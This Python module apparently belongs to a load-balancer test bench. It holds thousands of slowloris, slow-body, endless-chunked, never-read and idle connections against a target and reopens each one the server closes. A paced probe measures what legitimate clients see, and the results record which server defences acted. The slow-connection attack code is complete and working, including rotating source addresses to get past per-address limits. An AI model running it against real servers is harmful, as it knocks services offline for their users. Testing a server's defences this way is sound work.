"""Slow, idle and never-reading clients, thousands from one process, and a paced probe.

Each attack kind is a coroutine `kind(target, count, duration, source=None)`
that holds `count` connections to `target` (host, port) for `duration`
seconds, all on one asyncio loop (a socket and a few tasks per connection):

    slowloris        a request head, one byte every 2 s, never finished
    slow_body_small  a complete head with Content-Length 5,000, then one body byte a second
    slow_body_large  the same with Content-Length 5,000,000
    endless_chunked  a chunked upload: a small chunk every second, never the last one
    never_read       a GET of a 4 MB answer (the echo backend's /bytes/<n>), with a
                     small SO_RCVBUF, and not one byte of the answer read
    idle             connects and sends nothing

A connection the server closes is opened again (after a pause that doubles
while connections die young), so the count stays up. Each kind's Tally counts
what the server did: connections opened and failed, closed by the server, and
the status of the first answer on each (a 408 or 503 says which defence
acted). never_read learns the status by peeking (MSG_PEEK), which reads
nothing, and sees a close only as a reset or a FIN: a server that closes
gracefully with its answer still unsent never gets its FIN through the
client's closed window, so such closes are not counted.

`source` binds the connections to local addresses (all of 127.0.0.0/8 is
local): a string, or a list that connections take in turn, so that a server
can tell attacker and probe apart, and per-address caps see many clients.

`probe` is the victim: a paced client (open loop, e.g. 50 requests/s), each
request a PUT of a small JSON body that must come back unchanged, on a new
connection unless `keepalive`; it records the status and latency of each.
`Background` runs either on a thread of its own, to run beside the other.
"""
from __future__ import annotations

import asyncio
import functools
import itertools
import json
import resource
import socket
import threading
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Any, Awaitable, Callable, Iterator, Mapping, Sequence

from bench.loadgen import read_response, request_bytes
from bench.stats import percentile

Target = tuple[str, int]
Sources = str | Sequence[str] | None

SLOWLORIS_INTERVAL_S = 2.0
TRICKLE_INTERVAL_S = 1.0
SMALL_BODY = 5_000
LARGE_BODY = 5_000_000
NEVER_READ_BODY = 4_000_000
# The kernel doubles it; the least it allows is about 2 KB.
NEVER_READ_RCVBUF = 4096
CONNECT_TIMEOUT_S = 5.0
# A connection closed younger than YOUNG_S waits twice as long before the next
# one, up to MAX_PAUSE_S: an attacker refused at once must not become a storm.
PAUSE_S = 0.5
MAX_PAUSE_S = 8.0
YOUNG_S = 1.0
TCP_ESTABLISHED = 1
# Binding to an address with port 0 then takes no port until connect() picks one.
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)


@dataclass
class Tally:
    """What the server did to one kind's connections."""

    kind: str
    count: int
    opened: int = 0          # connections established
    failed: int = 0          # attempts that never connected (refused, timed out, no descriptor)
    closed: int = 0          # connections the server ended (FIN, reset, a failed write)
    statuses: Counter = field(default_factory=Counter)   # first answer's status, per connection
    open_now: int = 0
    peak_open: int = 0
    lived_s: list[float] = field(default_factory=list)    # how long each closed one lasted

    def as_dict(self) -> dict[str, Any]:
        lived = sorted(self.lived_s)
        out = asdict(self)
        out["statuses"] = {str(k): v for k, v in sorted(self.statuses.items())}
        del out["lived_s"]
        out["lived_p50_s"] = round(percentile(lived, 50), 3) if lived else None
        return out


def raise_fd_limit() -> int:
    """Raise this process's soft descriptor limit to the hard one; return it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def addresses(prefix: str, n: int) -> list[str]:
    """`n` local source addresses: addresses("127.0.3", 2) == ["127.0.3.1", "127.0.3.2"]."""
    return [f"{prefix}.{i}" for i in range(1, n + 1)]


def _bytes_of(data: bytes) -> Iterator[bytes]:
    return (data[i:i + 1] for i in range(len(data)))


def _endless_head() -> Iterator[bytes]:
    """A request head that never ends: one more header line after another."""
    yield from _bytes_of(b"GET /slowloris HTTP/1.1\r\nHost: lb\r\n")
    for i in itertools.count():
        yield from _bytes_of(f"X-Slow-{i}: {i}\r\n".encode())


@functools.lru_cache(maxsize=4)
def json_body(length: int) -> bytes:
    """A JSON document of exactly `length` bytes (at least 8); one copy per length."""
    return b'{"p":"' + b"x" * (length - 8) + b'"}'


def _json_bytes(length: int) -> Iterator[bytes]:
    """json_body(length), one byte at a time, without holding it whole."""
    yield from _bytes_of(b'{"p":"')
    for _ in range(length - 8):
        yield b"x"
    yield from _bytes_of(b'"}')


def _post_head(path: str, framing: str) -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: lb\r\nContent-Type: application/json\r\n"
            f"{framing}\r\n\r\n").encode()


# --- what each kind writes: coroutines that return only when the server ends it ---

Writer = Callable[[asyncio.AbstractEventLoop, socket.socket], Awaitable[None]]


async def _forever() -> None:
    await asyncio.Event().wait()


async def _trickle(loop: asyncio.AbstractEventLoop, sock: socket.socket, head: bytes,
                   pieces: Iterator[bytes], interval: float) -> None:
    if head:
        await loop.sock_sendall(sock, head)
    for piece in pieces:
        await loop.sock_sendall(sock, piece)
        await asyncio.sleep(interval)
    await _forever()


def _slowloris(loop, sock) -> Awaitable[None]:
    return _trickle(loop, sock, b"", _endless_head(), SLOWLORIS_INTERVAL_S)


def _slow_body(length: int) -> Writer:
    def write(loop, sock) -> Awaitable[None]:
        return _trickle(loop, sock, _post_head("/slow-body", f"Content-Length: {length}"),
                        _json_bytes(length), TRICKLE_INTERVAL_S)
    return write


def _endless_chunked(loop, sock) -> Awaitable[None]:
    chunks = itertools.chain([b"1\r\n[\r\n"], itertools.repeat(b"2\r\n0,\r\n"))
    return _trickle(loop, sock, _post_head("/endless-chunked", "Transfer-Encoding: chunked"),
                    chunks, TRICKLE_INTERVAL_S)


async def _never_read(loop, sock) -> None:
    # The size is read at each connection, so a caller may set NEVER_READ_BODY.
    await loop.sock_sendall(
        sock, f"GET /bytes/{NEVER_READ_BODY} HTTP/1.1\r\nHost: lb\r\n\r\n".encode())
    await _forever()


async def _idle(loop, sock) -> None:
    await _forever()


# --- how each kind notices the server's answer and close --------------------------


def _status_of(data: bytes) -> int | None:
    if data.startswith(b"HTTP/") and len(data) >= 12 and data[9:12].isdigit():
        return int(data[9:12])
    return None


async def _read_until_closed(loop: asyncio.AbstractEventLoop, sock: socket.socket,
                             tally: Tally) -> None:
    """Read (and drop) whatever the server sends, noting the first status, until it closes."""
    start = b""
    try:
        while data := await loop.sock_recv(sock, 65536):
            if start is not None:
                start += data
                if len(start) >= 12:
                    status = _status_of(start)
                    if status is not None:
                        tally.statuses[status] += 1
                    start = None
    except OSError:
        pass  # a reset: closed all the same


async def _watch_unread(loop: asyncio.AbstractEventLoop, sock: socket.socket,
                        tally: Tally) -> None:
    """Read nothing; peek at the answer's status, and poll the TCP state for a close."""
    seen = False
    while True:
        if not seen:
            try:
                status = _status_of(sock.recv(12, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except (BlockingIOError, InterruptedError):
                status = None
            except OSError:
                return
            if status is not None:
                tally.statuses[status] += 1
                seen = True
        state = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        if state != TCP_ESTABLISHED:
            return
        await asyncio.sleep(0.25)


@dataclass(frozen=True)
class Kind:
    write: Writer
    watch: Callable[[asyncio.AbstractEventLoop, socket.socket, Tally], Awaitable[None]] = \
        _read_until_closed
    rcvbuf: int | None = None


KINDS: dict[str, Kind] = {
    "slowloris": Kind(_slowloris),
    "slow_body_small": Kind(_slow_body(SMALL_BODY)),
    "slow_body_large": Kind(_slow_body(LARGE_BODY)),
    "endless_chunked": Kind(_endless_chunked),
    "never_read": Kind(_never_read, _watch_unread, NEVER_READ_RCVBUF),
    "idle": Kind(_idle),
}


# --- holding the connections --------------------------------------------------------


def _source_list(source: Sources) -> list[str | None]:
    if source is None:
        return [None]
    return [source] if isinstance(source, str) else list(source) or [None]


async def _connect(loop: asyncio.AbstractEventLoop, target: Target, source: str | None,
                   rcvbuf: int | None) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setblocking(False)
        if rcvbuf:  # before connecting: the window is agreed in the handshake
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if source:
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((source, 0))
        await asyncio.wait_for(loop.sock_connect(sock, target), CONNECT_TIMEOUT_S)
    except BaseException:
        sock.close()
        raise
    return sock


async def _session(loop: asyncio.AbstractEventLoop, sock: socket.socket, kind: Kind,
                   tally: Tally, stop: asyncio.Event) -> bool:
    """Run one connection until the server ends it (True) or the attack stops (False)."""
    tasks = [asyncio.ensure_future(kind.write(loop, sock)),
             asyncio.ensure_future(kind.watch(loop, sock, tally))]
    stopped = asyncio.ensure_future(stop.wait())
    await asyncio.wait([*tasks, stopped], return_when=asyncio.FIRST_COMPLETED)
    for task in (*tasks, stopped):
        task.cancel()
    await asyncio.gather(*tasks, stopped, return_exceptions=True)
    return not stop.is_set()


def backoff(pause: float, lived: float | None) -> tuple[float, float]:
    """(seconds to wait before the next connection, the pause after that), after one
    that lived `lived` seconds (None: it never connected). A long life: at once."""
    if lived is not None and lived >= YOUNG_S:
        return 0.0, PAUSE_S
    return pause, min(pause * 2, MAX_PAUSE_S)


async def _keep_one(loop: asyncio.AbstractEventLoop, target: Target, source: str | None,
                    kind: Kind, tally: Tally, stop: asyncio.Event) -> None:
    """Keep one connection of `kind` open until `stop`, opening it again when it dies."""
    pause = PAUSE_S
    while not stop.is_set():
        lived = None
        try:
            sock = await _connect(loop, target, source, kind.rcvbuf)
        except (OSError, asyncio.TimeoutError):
            tally.failed += 1
        else:
            tally.opened += 1
            tally.open_now += 1
            tally.peak_open = max(tally.peak_open, tally.open_now)
            opened = loop.time()
            try:
                ended_by_server = await _session(loop, sock, kind, tally, stop)
            finally:
                tally.open_now -= 1
                sock.close()
            if not ended_by_server:
                return
            tally.closed += 1
            lived = loop.time() - opened
            tally.lived_s.append(lived)
        wait, pause = backoff(pause, lived)
        if wait:
            try:
                await asyncio.wait_for(stop.wait(), wait)
            except asyncio.TimeoutError:
                pass


def _until(duration: float, stop: asyncio.Event | None) -> asyncio.Event:
    """`stop` (or a new event), set once `duration` seconds have passed."""
    until = stop if stop is not None else asyncio.Event()
    asyncio.get_running_loop().call_later(duration, until.set)
    return until


async def attack(kind: str, target: Target, count: int, duration: float,
                 source: Sources = None, *, stop: asyncio.Event | None = None,
                 tally: Tally | None = None) -> Tally:
    """Hold `count` connections of `kind` for `duration` s, or until `stop` is set
    (it is set when the time is up)."""
    loop = asyncio.get_running_loop()
    tally = tally or Tally(kind, count)
    until = _until(duration, stop)
    sources = _source_list(source)
    await asyncio.gather(*(_keep_one(loop, target, sources[i % len(sources)], KINDS[kind],
                                     tally, until) for i in range(count)))
    return tally


def _kind_function(kind: str) -> Callable[..., Awaitable[Tally]]:
    async def run(target: Target, count: int, duration: float, source: Sources = None,
                  **options: Any) -> Tally:
        return await attack(kind, target, count, duration, source, **options)
    run.__name__ = run.__qualname__ = kind
    run.__doc__ = f"Hold `count` {kind} connections to `target` for `duration` s."
    return run


slowloris = _kind_function("slowloris")
slow_body_small = _kind_function("slow_body_small")
slow_body_large = _kind_function("slow_body_large")
endless_chunked = _kind_function("endless_chunked")
never_read = _kind_function("never_read")
idle = _kind_function("idle")


async def hold(target: Target, counts: Mapping[str, int], duration: float,
               sources: Mapping[str, Sources] | None = None, *,
               stop: asyncio.Event | None = None,
               tallies: dict[str, Tally] | None = None) -> dict[str, Tally]:
    """Several kinds at once: `counts` maps a kind to its connections, `sources`
    a kind to its source addresses. Tallies go into `tallies` as they change."""
    tallies = tallies if tallies is not None else {}
    for kind, count in counts.items():
        tallies.setdefault(kind, Tally(kind, count))
    await asyncio.gather(*(attack(kind, target, count, duration, (sources or {}).get(kind),
                                  stop=stop, tally=tallies[kind])
                           for kind, count in counts.items()))
    return tallies


# --- the probe ----------------------------------------------------------------------


@dataclass
class ProbeResult:
    """One probe request, as the probe saw it."""

    index: int
    sent_at: float            # seconds after the probe started
    status: int | None        # None: no HTTP answer
    ok: bool                  # 200, and its own body came back unchanged
    latency_s: float          # from opening the connection (or writing) to the body read
    error: str | None = None


async def _open(target: Target, source: str | None) -> tuple[asyncio.StreamReader,
                                                              asyncio.StreamWriter]:
    local = (source, 0) if source else None
    return await asyncio.open_connection(*target, local_addr=local)


async def probe(target: Target, rate: float, duration: float, source: str | None = None, *,
                keepalive: bool = False, timeout: float = 5.0,
                stop: asyncio.Event | None = None,
                results: list[ProbeResult] | None = None) -> list[ProbeResult]:
    """Send `rate` requests a second for `duration` s (or until `stop`); each ends as a
    ProbeResult in `results`, in the order they finish."""
    loop = asyncio.get_running_loop()
    results = results if results is not None else []
    idle: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    host, port = target
    headers = {"Content-Type": "application/json"}
    if not keepalive:
        headers["Connection"] = "close"

    async def one(index: int, sent_at: float) -> None:
        body = json.dumps({"probe": index}).encode()
        started = time.perf_counter()
        status, ok, error, conn = None, False, None, None
        try:
            async with asyncio.timeout(timeout):
                conn = idle.pop() if idle else await _open(target, source)
                conn[1].write(request_bytes("PUT", host, port, f"/probe/{index}", body,
                                            headers))
                status, keep, answer = await read_response(conn[0])
            ok = status == 200 and answer == body
            if keepalive and keep:
                idle.append(conn)
                conn = None
        except Exception as exc:  # any failure is a lost request: say which
            error = repr(exc) if str(exc) else type(exc).__name__
        finally:
            if conn is not None:
                conn[1].transport.abort()
        results.append(ProbeResult(index, round(sent_at, 3), status, ok,
                                   time.perf_counter() - started, error))

    until = _until(duration, stop)
    began, tasks = loop.time(), []
    for index in itertools.count():
        due = began + index / rate
        if due >= began + duration:
            break
        try:  # open loop: each request leaves on time, whatever the earlier ones do
            await asyncio.wait_for(until.wait(), max(0.0, due - loop.time()))
            break
        except asyncio.TimeoutError:
            pass
        tasks.append(asyncio.ensure_future(one(index, loop.time() - began)))
    await asyncio.gather(*tasks)
    for _, writer in idle:
        writer.transport.abort()
    return results


def summary(results: Sequence[ProbeResult]) -> dict[str, Any]:
    """Sent, ok, lost, statuses and latency percentiles (ms) of a probe run."""
    latencies = sorted(r.latency_s * 1000 for r in results)
    ok = sum(r.ok for r in results)
    pick = (lambda q: round(percentile(latencies, q), 2)) if latencies else (lambda q: None)
    errors = Counter(r.error.split("(")[0] for r in results if r.error)
    return {"sent": len(results), "ok": ok, "lost": len(results) - ok,
            "success_rate": ok / len(results) if results else None,
            "p50_ms": pick(50), "p99_ms": pick(99), "max_ms": pick(100),
            "statuses": dict(Counter(str(r.status) for r in results)),
            "errors": dict(errors)}


# --- running beside each other ------------------------------------------------------


class Background:
    """A coroutine on a thread of its own, with its own event loop, that can be stopped.

    `make(stop)` builds the coroutine; `stop` is an asyncio.Event it must honour."""

    def __init__(self, make: Callable[[asyncio.Event], Awaitable[Any]]) -> None:
        self._make = make
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._value: Any = None
        self._error: BaseException | None = None
        self._thread = threading.Thread(target=self._main, daemon=True)
        self._thread.start()
        self._ready.wait()
        if self._error is not None:
            raise self._error

    def _main(self) -> None:
        async def main() -> Any:
            self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
            self._ready.set()
            return await self._make(self._stop)
        try:
            self._value = asyncio.run(main())
        except BaseException as exc:  # handed to whoever asks for the result
            self._error = exc
        finally:
            self._ready.set()

    def stop(self, timeout: float = 30.0) -> Any:
        """Ask the coroutine to stop; return its result (or raise its exception)."""
        try:
            self._loop.call_soon_threadsafe(self._stop.set)
        except RuntimeError:  # the loop is closed: the coroutine is over already
            pass
        return self.result(timeout)

    def result(self, timeout: float | None = None) -> Any:
        self._thread.join(timeout)
        if self._thread.is_alive():
            raise TimeoutError("the background coroutine did not end")
        if self._error is not None:
            raise self._error
        return self._value


def start_attack(target: Target, counts: Mapping[str, int], duration: float,
                 sources: Mapping[str, Sources] | None = None) -> tuple[Background,
                                                                       dict[str, Tally]]:
    """`hold` on a thread: returns it (stop() gives the tallies) and the live tallies."""
    raise_fd_limit()
    tallies = {kind: Tally(kind, count) for kind, count in counts.items()}
    runner = Background(lambda stop: hold(target, counts, duration, sources, stop=stop,
                                          tallies=tallies))
    return runner, tallies


def start_probe(target: Target, rate: float, duration: float, source: str | None = None,
                **options: Any) -> tuple[Background, list[ProbeResult]]:
    """`probe` on a thread: returns it (stop() gives the results) and the live results."""
    results: list[ProbeResult] = []
    runner = Background(lambda stop: probe(target, rate, duration, source, stop=stop,
                                           results=results, **options))
    return runner, results
